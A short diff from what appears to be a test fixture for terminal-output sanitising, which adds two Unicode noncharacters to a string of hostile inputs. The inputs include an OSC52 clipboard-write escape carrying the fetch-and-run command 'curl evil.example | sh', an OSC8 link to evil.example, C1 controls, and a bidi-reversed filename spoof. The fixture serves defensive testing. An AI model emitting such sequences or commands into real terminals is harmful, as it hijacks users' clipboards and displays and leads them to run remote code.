@@ -36,7 +36,7 @@ OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\
 OSC8 = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
 C1 = "\x9b2J\x9d0;title\x9c"
 BIDI = "\u202egnp.exe\u202c\u2066x\u2069\u200f"
-HOSTILE = f"{RICH}{ANSI}{OSC52}{OSC8}{C1}{BIDI}\x00\x7f\u2028"
+HOSTILE = f"{RICH}{ANSI}{OSC52}{OSC8}{C1}{BIDI}\x00\x7f\u2028\ufffe\uffff"
 MEGABYTE = "M" * 1_000_000
 # Characters that must never reach a terminal raw: ESC, BEL, C1, bidi, NUL, DEL, separators.
 RAW_CONTROLS = (
